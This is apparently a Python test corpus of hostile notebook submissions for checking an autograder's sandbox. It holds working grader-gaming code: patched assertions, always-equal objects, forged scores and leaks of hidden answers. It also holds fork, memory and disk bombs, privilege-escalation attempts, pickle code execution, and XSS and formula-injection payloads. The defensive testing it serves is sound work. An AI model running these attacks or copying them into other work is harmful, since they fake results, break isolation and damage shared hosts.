"""A corpus of hostile submissions: every way known to us of getting points without an answer.

Each attack is the source of a cell that runs after every exercise has been answered wrongly (`wrong` returns
None). It succeeds if it gains a point, reads something hidden (it then prints `LEAK`), changes the host or
another submission, or harms the grader. The families follow Kratzke, "Smart like a fox" (CSEDU 2019), and the
attacks measured against nbgrader and otter. The corpus runs against the real pipeline in the tests, and
against other autograders in `benchmarks/`.
"""

import dataclasses
import json
import textwrap
from collections.abc import Sequence

LEAK = "LEAK"
CANARY = "ebm-course-canary"

PRELUDE = """
NAMES = {names!r}
def wrong(*args, **kwargs):
    return None
for _name in NAMES:
    globals()[_name] = wrong
def answer_with(thing):
    for name in NAMES:
        globals()[name] = thing
def leak(what):
    print("LEAK", str(what)[:200])
"""


@dataclasses.dataclass(frozen=True)
class Attack:
    """One hostile submission: its family, its name and the cell that attacks."""

    family: str
    name: str
    source: str

    def notebook(self, exercises: Sequence[str]) -> bytes:
        """The submission as a notebook."""
        cells = [PRELUDE.format(names=list(exercises)), self.source]
        return json.dumps(
            {
                "nbformat": 4,
                "nbformat_minor": 5,
                "metadata": {
                    "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
                },
                "cells": [
                    {
                        "cell_type": "code",
                        "id": f"cell{index}",
                        "metadata": {},
                        "source": source,
                        "outputs": [],
                        "execution_count": None,
                    }
                    for index, source in enumerate(cells)
                ],
            }
        ).encode()


def _family(name: str, **attacks: str) -> list[Attack]:
    return [Attack(name, key.replace("_", " "), textwrap.dedent(source)) for key, source in attacks.items()]


PATCH_THE_CHECKER = _family(
    "patch the checker",
    numpy_testing_always_passes="""
        import numpy as np
        for f in dir(np.testing):
            if f.startswith("assert"):
                setattr(np.testing, f, lambda *a, **k: None)
        np.allclose = np.array_equal = lambda *a, **k: True
        np.isclose = lambda a, b, *r, **k: np.ones(np.shape(b), bool)
    """,
    torch_allclose_always_true="""
        import torch
        torch.allclose = torch.equal = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
    """,
    assertions_are_stripped_from_later_cells="""
        import ast
        class Strip(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(Strip())
    """,
    input_transformer_empties_later_cells="""
        get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
    """,
    builtins_replaced="""
        import builtins
        builtins.all = builtins.any = builtins.bool = lambda *a: True
        builtins.abs = lambda *a: 0.0
        builtins.len = lambda *a: 0
        builtins.isinstance = lambda *a: True
    """,
    json_and_struct_replaced="""
        import json, struct
        json.loads = lambda *a, **k: {"score": 100, "passed": True}
        json.dumps = lambda *a, **k: '{"score": 100, "passed": true}'
        struct.unpack = lambda *a: (0, 0)
    """,
    worker_modules_rewritten="""
        import sys
        for name, module in list(sys.modules.items()):
            if name in ("codec", "notebook", "isolation", "zygote", "materialize", "__main__"):
                for key in list(vars(module)):
                    if callable(getattr(module, key)) and not key.startswith("__"):
                        try: setattr(module, key, lambda *a, **k: {"status": "done", "score": 100})
                        except Exception: pass
    """,
    shell_replaced="""
        shell = get_ipython()
        class Fine: error_in_exec = error_before_exec = None; result = 100
        shell.run_cell = lambda *a, **k: Fine()
        shell.user_ns = {name: (lambda *a: 1) for name in NAMES}
    """,
    trace_function_rewrites_locals="""
        import sys
        def trace(frame, event, arg):
            for key in ("passed", "score", "points", "expected"):
                if key in frame.f_locals:
                    frame.f_locals[key] = 100
            return trace
        sys.settrace(trace); sys.setprofile(lambda *a: None)
    """,
    comparison_functions_found_by_gc_are_gutted="""
        import gc, types
        targets = ("compare", "close", "judge", "answer_calls")
        for thing in gc.get_objects():
            if isinstance(thing, types.FunctionType) and thing.__name__ in targets:
                thing.__code__ = (lambda *a, **k: True).__code__
    """,
)

LIE_WITH_OBJECTS = _family(
    "lie with objects",
    equal_to_everything="""
        class Yes:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __lt__ = __le__ = __gt__ = __ge__ = __eq__
            def __hash__(self): return 0
            def __bool__(self): return True
            def __float__(self): return 0.0
            def __sub__(self, other): return 0.0
            __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
            def __abs__(self): return 0.0
        answer_with(lambda *a, **k: Yes())
    """,
    array_subclass_with_its_own_rules="""
        import numpy as np
        class Liar(np.ndarray):
            def __array_ufunc__(self, *a, **k): return np.True_
            def __array_function__(self, *a, **k): return np.True_
            def __eq__(self, other): return True
            @property
            def shape(self): return (1,)
        answer_with(lambda *a, **k: np.zeros(3).view(Liar))
    """,
    float_subclass="""
        class F(float):
            def __eq__(self, o): return True
            def __sub__(self, o): return F(0)
            __rsub__ = __sub__
            def __abs__(self): return F(0)
            def __lt__(self, o): return True
            __le__ = __lt__
        answer_with(lambda *a, **k: F(1))
    """,
    str_subclass_that_is_anything="""
        class S(str):
            def __eq__(self, o): return True
            def __hash__(self): return 1
            def encode(self, *a): return b"x" * 10
        answer_with(lambda *a, **k: S("right"))
    """,
    nan_everywhere="""
        import numpy as np
        answer_with(lambda *a, **k: float("nan"))
    """,
    infinity_everywhere="""
        answer_with(lambda *a, **k: float("inf"))
    """,
    tensor_lookalike="""
        import numpy as np
        class Tensor:
            def detach(self): return self
            def cpu(self): return self
            def resolve_conj(self): return self
            def resolve_neg(self): return self
            def numpy(self): return np.zeros(3, dtype=object)
        Tensor.__module__ = "torch"
        answer_with(lambda *a, **k: Tensor())
    """,
    object_array_holding_code="""
        import numpy as np
        class P:
            def __reduce__(self): return (exec, ("open('/tmp/ebm-course-canary','w')",))
        answer_with(lambda *a, **k: np.array([P()], dtype=object))
    """,
    generator_that_never_ends="""
        def forever(*a, **k):
            while True: yield 0
        answer_with(forever)
    """,
    list_that_contains_itself="""
        loop = []; loop.append(loop)
        answer_with(lambda *a, **k: loop)
    """,
    dictionary_with_lying_keys="""
        class K:
            def __hash__(self): return hash("value")
            def __eq__(self, o): return True
        answer_with(lambda *a, **k: {K(): 1, "score": 100, "passed": True, "id": 0, "!": "array"})
    """,
    changes_between_reads="""
        class Shifty:
            n = 0
            def __array__(self, *a, **k):
                import numpy as np
                Shifty.n += 1
                return np.full(9, Shifty.n)
            def __iter__(self): return iter([1] * 9)
            def __len__(self): return 9
        answer_with(lambda *a, **k: Shifty())
    """,
)

READ_THE_SECRET = _family(
    "read the secret",
    imports_the_autograder="""
        import sys
        for name in ("autograder", "autograder.checks.ising", "autograder.judging.judge", "checks"):
            try:
                leak(__import__(name))
            except ImportError: pass
    """,
    imports_the_reference="""
        for name in ("ising", "mcmc", "boltzmann_machines", "enumeration"):
            try:
                module = __import__("ebmkit." + name, fromlist=["x"])
                leak(module)
            except ImportError: pass
    """,
    reads_the_repository_through_the_editable_install="""
        import glob, pathlib, sys
        for site in sys.path:
            for pth in glob.glob(site + "/*.pth"):
                for line in open(pth).read().splitlines():
                    for wanted in ("autograder/checks", "solutions", "course", "ebmkit/ising/__init__.py"):
                        try:
                            found = pathlib.Path(line) / wanted
                            if not line or line.startswith("import") or not found.exists(): continue
                            leak(list(found.iterdir()) if found.is_dir() else found.read_text())
                        except OSError: pass
    """,
    walks_the_whole_file_system="""
        import os
        for root, dirs, files in os.walk("/"):
            if root.startswith(("/proc", "/sys")): dirs[:] = []; continue
            for f in files:
                if f in ("gradebook.db", "grading.key", "exercise.py", "judge.py") and "site-packages" not in root:
                    leak(os.path.join(root, f))
            for d in dirs if "site-packages" not in root else ():
                if d in ("solutions", "submitted", "autograded"): leak(os.path.join(root, d))
    """,
    searches_installed_packages_for_checks="""
        import os, sys
        for site in sys.path:
            folder = os.path.join(site, "autograder")
            if os.path.isdir(folder) and os.listdir(folder): leak(folder)
    """,
    reads_environment_of_every_process="""
        import glob, os
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                content = open(path, "rb").read()
                if content and content != open("/proc/self/environ", "rb").read(): leak(path)
            except OSError: pass
    """,
    reads_memory_of_every_process="""
        import glob, os
        for path in glob.glob("/proc/[0-9]*/mem"):
            try:
                handle = open(path, "rb")
            except OSError: continue
            pid = int(path.split("/")[2])
            if os.readlink(f"/proc/{pid}/ns/user") != os.readlink("/proc/self/ns/user"): leak(path)
    """,
    reads_command_lines_for_paths_and_keys="""
        import glob
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            try: text = open(path).read()
            except OSError: continue
            if any(word in text for word in ("grading.key", "checks", "expected", "hmac")): leak(text)
    """,
    frames_of_the_caller="""
        import sys
        def peek(*args, **kwargs):
            frame = sys._getframe()
            while frame:
                for key, value in frame.f_locals.items():
                    if key in ("expected", "reference", "check", "exercise", "solution"): return value
                frame = frame.f_back
            return None
        answer_with(peek)
    """,
    gc_search_for_expected_values="""
        import gc
        def search(*args, **kwargs):
            for thing in gc.get_objects():
                if isinstance(thing, dict) and ("expected" in thing or "reference" in thing):
                    return thing.get("expected", thing.get("reference"))
        answer_with(search)
    """,
    history_and_inputs_of_ipython="""
        for text in In[:-1] + [str(v) for v in Out.values()]:
            if "HIDDEN" in text or "autograder" in text: leak(text)
    """,
    bytecode_and_git_history="""
        import glob
        for path in glob.glob("/**/*checks*ising*.pyc", recursive=False) + glob.glob("/**/.git/HEAD"): leak(path)
        import os
        for base in ("/", "/home", "/work", "/root", "/tmp", "/opt", "/srv", "/mnt"):
            for sub in (".git", "main/.git"):
                try: leak(os.listdir(os.path.join(base, sub)))
                except OSError: pass
    """,
    another_submissions_files="""
        import glob
        for path in glob.glob("/home/*/*") + glob.glob("/tmp/*") + glob.glob("/dev/shm/*"):
            if path not in ("/tmp/ipython", "/tmp/matplotlib"): leak(path)  # the zygote's own
    """,
    open_file_descriptors="""
        import os, socket, stat
        for fd in range(3, 256):
            try: mode = os.fstat(fd).st_mode
            except OSError: continue
            if stat.S_ISREG(mode):
                name = os.readlink(f"/proc/self/fd/{fd}")
                if any(w in name for w in ("course/", "check", "grade")): leak(name)
    """,
)

KNOW_THE_INPUTS = _family(
    "know the inputs",
    memory_across_calls="""
        import json, os
        def remember(*args, **kwargs):
            try: seen = open("/tmp/seen").read()
            except OSError: seen = ""
            with open("/tmp/seen", "a") as f: f.write(repr(args))
            return len(seen)
        answer_with(remember)
    """,
    predicts_the_seed="""
        import numpy as np, random
        def replay(*args, **kwargs):
            np.random.seed(0); random.seed(0)
            return np.random.default_rng(0).random()
        answer_with(replay)
    """,
    answers_keyed_on_the_arguments="""
        table = {}
        def lookup(*args, **kwargs):
            return table.get(repr(args), 0.0)
        answer_with(lookup)
    """,
    returns_its_inputs="""
        def echo(*args, **kwargs):
            return args[0] if args else None
        answer_with(lambda *args, **kwargs: str(args))
    """,
)

FORGE_THE_RESULT = _family(
    "forge the result",
    prints_a_score="""
        print("### BEGIN GRADE\\n100\\n### END GRADE")
        print('{"score": 100, "max_score": 100, "tests": []}')
        print("All tests passed!")
    """,
    writes_result_files="""
        import os
        for place in ("results.json", "/autograder/results/results.json", "/tmp/results.json", "../results.json",
                      "/opt/course/results.json", "../gradebook.db", "/home/student/gradebook.db"):
            try:
                os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
                open(place, "w").write('{"score": 100}')
            except OSError: pass
    """,
    writes_frames_on_every_descriptor="""
        import os, struct
        body = b'{"!":"dict","k":["status","score"],"v":["done",100]}'
        frame = struct.pack("<IQ", len(body), 0) + body
        for fd in range(3, 64):
            try: os.write(fd, frame)
            except OSError: pass
    """,
    answers_before_it_is_asked="""
        import socket, struct, os
        body = b'{"!":"dict","k":["id","outcomes"],"v":["0",{"!":"list","v":[{"!":"dict","k":["value"],"v":[0]}]}]}'
        frame = struct.pack("<IQ", len(body), 0) + body
        def flood(*args, **kwargs):
            for fd in range(3, 64):
                try: os.write(fd, frame)
                except OSError: pass
            return None
        answer_with(flood)
    """,
    passes_descriptors_to_the_judge="""
        import os, socket
        fd = os.open("/etc/ld.so.cache", os.O_RDONLY)
        for number in range(3, 32):
            try: socket.send_fds(socket.socket(fileno=os.dup(number)), [b"x"], [fd])
            except OSError: pass
    """,
    gives_a_score_as_the_cells_value="""
        100.0
    """,
    exception_named_like_a_pass="""
        class Right(Exception): pass
        Right.__name__ = "right"
        def cheat(*args, **kwargs): raise Right("score: 100")
        answer_with(cheat)
    """,
    displays_html_with_a_script="""
        from IPython.display import HTML, Javascript, display
        display(HTML("<script>document.body.innerHTML='score 100'</script><b>100/100</b>"))
        display(Javascript("fetch('http://127.0.0.1/')"))
    """,
    claims_another_exercise_id="""
        import os
        os.environ["NBGRADER_EXECUTION"] = "validate"
        __grade__ = score = points = 100
    """,
)

DIE_EARLY = _family(
    "die early",
    exits="import sys; sys.exit(0)",
    exits_hard="import os; os._exit(0)",
    raises_system_exit_in_a_destructor="""
        class D:
            def __del__(self): raise SystemExit(0)
        d = D(); del d
        raise SystemExit(0)
    """,
    kills_its_parent="import os, signal; os.kill(os.getppid(), signal.SIGKILL)",
    kills_everyone="import os, signal; os.kill(-1, signal.SIGKILL)",
    segmentation_fault="import ctypes; ctypes.string_at(0)",
    exits_in_a_call="""
        import os
        answer_with(lambda *a, **k: os._exit(0))
    """,
    stops_itself="""
        import os, signal
        answer_with(lambda *a, **k: os.kill(os.getpid(), signal.SIGSTOP))
    """,
)

STARVE = _family(
    "starve",
    infinite_loop_that_swallows_interrupts="""
        import time
        end = time.time() + 60
        while time.time() < end:
            try:
                while time.time() < end: pass
            except BaseException: pass
    """,
    memory_bomb="""
        hoard = []
        while True: hoard.append(bytearray(50_000_000))
    """,
    memory_bomb_in_many_processes="""
        import os, time
        for _ in range(8):
            if os.fork() == 0:
                hoard = bytearray(900_000_000)
                time.sleep(30)
        time.sleep(3)
    """,
    fork_bomb="""
        import os, time
        end = time.time() + 3
        while time.time() < end:
            try: os.fork()
            except OSError: pass
    """,
    thread_storm="""
        import threading, time
        for _ in range(10000):
            try: threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            except RuntimeError: break
    """,
    fills_the_disk="""
        for place in ("/tmp", "/home/student", "/dev/shm"):
            try:
                with open(place + "/fill", "wb") as f:
                    for _ in range(10_000): f.write(bytes(1 << 20))
            except OSError: pass
    """,
    prints_300_megabytes="print('x' * 300_000_000)",
    prints_for_ever="""
        import itertools
        for i in itertools.count(): print(i)
    """,
    huge_reply="""
        import numpy as np
        answer_with(lambda *a, **k: np.zeros(40_000_000))
    """,
    wide_nested_reply="""
        answer_with(lambda *a, **k: [[0] * 1000 for _ in range(20_000)])
    """,
    gigantic_integer="answer_with(lambda *a, **k: 10 ** 1_000_000)",
    deep_recursion="""
        import sys
        sys.setrecursionlimit(10**9)
        def dive(n): return dive(n + 1)
        dive(0)
    """,
    a_thousand_figures="""
        import matplotlib.pyplot as plt
        for i in range(300): plt.figure(figsize=(4, 4)); plt.plot([1, 2])
        plt.show()
    """,
    many_small_files="""
        for i in range(1_000_000):
            try: open(f"/tmp/{i}", "w")
            except OSError: break
    """,
)

ESCAPE = _family(
    "escape or exfiltrate",
    opens_a_network_connection="""
        import socket
        for address in (("127.0.0.1", 22), ("127.0.0.1", 80), ("127.0.0.1", 8888)):
            try: socket.create_connection(address, timeout=1); leak(address)
            except OSError: pass
    """,
    new_user_namespace="""
        import ctypes
        if ctypes.CDLL(None).unshare(0x10000000) == 0: leak("unshare")
    """,
    mounts_something="""
        import ctypes
        if ctypes.CDLL(None).mount(b"tmpfs", b"/opt", b"tmpfs", 0, None) == 0: leak("mount")
        if ctypes.CDLL(None).umount2(b"/tmp", 2) == 0: leak("umount")
    """,
    traces_another_process="""
        import ctypes
        for pid in range(1, 60):
            if ctypes.CDLL(None).ptrace(16, pid, 0, 0) == 0: leak(pid)
    """,
    becomes_root="""
        import os
        for call in (os.setuid, os.setgid):
            try: call(0); leak("root")
            except OSError: pass
    """,
    writes_outside_its_scratch_space="""
        import os
        for place in ("/", "/usr", "/opt/course", "/etc", "/dev", "/proc/sys/kernel"):
            try: open(os.path.join(place, "ebm-course-canary"), "w").write("x"); leak(place)
            except OSError: pass
    """,
    setuid_programs="""
        import subprocess
        commands = ("su -c id", "sudo -n id", "mount -t tmpfs none /mnt", "unshare -Ur id", "bwrap id")
        for command in commands:
            done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=5)
            if "uid=0" in done.stdout or (done.returncode == 0 and "mount" in command): leak(command)
    """,
    kernel_interfaces="""
        import os
        places = ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/dev/mem", "/dev/kmsg")
        for place in places:
            try:
                with open(place, "r+b"): leak(place)
            except OSError: pass
    """,
)

SURVIVE = _family(
    "survive",
    daemon_that_outlives_its_check="""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(600):
                    for place in ("/tmp", "/home/student", "/dev/shm"):
                        try: open(place + "/ebm-course-canary", "w").write("x")
                        except OSError: pass
                    time.sleep(0.1)
            os._exit(0)
    """,
    background_thread_rewrites_answers="""
        import threading, time
        def work():
            while True:
                for name in NAMES: globals()[name] = lambda *a, **k: 1.0
                time.sleep(0.001)
        threading.Thread(target=work, daemon=True).start()
    """,
    files_left_for_the_next_one="""
        import os
        for place in ("/tmp", "/home/student", "/dev/shm", "/var/tmp", "/run", "/opt/course/ebmkit"):
            try: open(place + "/ebm-course-canary", "w").write("x")
            except OSError: pass
    """,
    ignores_every_signal="""
        import signal
        for number in range(1, 65):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
    """,
)

POISON_THE_HOST = _family(
    "poison the host",
    pickles_in_every_answer="""
        import pickle
        class P:
            def __reduce__(self): return (__import__("os").system, ("touch /tmp/ebm-course-canary",))
        answer_with(lambda *a, **k: pickle.dumps(P()))
    """,
    formula_in_every_text="""
        print('=cmd|"/c calc"!A1'); print("@SUM(1+1)*cmd|' /C calc'!A0")
    """,
    terminal_escapes="print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mscore: 100\\x1b[0m')",
    broken_png="""
        from IPython.display import display
        class Evil:
            def _repr_png_(self): return b'<svg onload=alert(1)>'
            def _repr_html_(self): return "<script>alert(1)</script>"
            def _repr_svg_(self): return "<svg onload='alert(1)'/>"
            def __repr__(self): return "<img src=x onerror=alert(1)>"
        display(Evil())
        Evil()
    """,
    names_with_paths="""
        class E(Exception): pass
        E.__name__ = "../../../../tmp/ebm-course-canary"
        raise E("{{ 7 * 7 }} ${jndi:ldap://127.0.0.1/x} <script>alert(1)</script>")
    """,
)

ATTACK_THE_STATISTICS = _family(
    "attack the statistics",
    identity_instead_of_a_sampler="""
        def identity(*args, **kwargs):
            import numpy as np
            arrays = [a for a in args if isinstance(a, np.ndarray) and a.ndim >= 3]
            return arrays[0] if arrays else None
        gibbs_sweep = identity
    """,
    fair_coins_instead_of_a_sampler="""
        import numpy as np
        def coins(*args, **kwargs):
            arrays = [a for a in args if isinstance(a, np.ndarray) and a.ndim >= 3]
            return np.random.randint(0, 2, arrays[0].shape) if arrays else None
        gibbs_sweep = coins
    """,
    different_answer_each_time_until_one_passes="""
        import os
        def reroll(*args, **kwargs):
            return int.from_bytes(os.urandom(2), "little") % 3 - 1
        answer_with(reroll)
    """,
)

ATTACKS: tuple[Attack, ...] = tuple(
    PATCH_THE_CHECKER
    + LIE_WITH_OBJECTS
    + READ_THE_SECRET
    + KNOW_THE_INPUTS
    + FORGE_THE_RESULT
    + DIE_EARLY
    + STARVE
    + ESCAPE
    + SURVIVE
    + POISON_THE_HOST
    + ATTACK_THE_STATISTICS
)
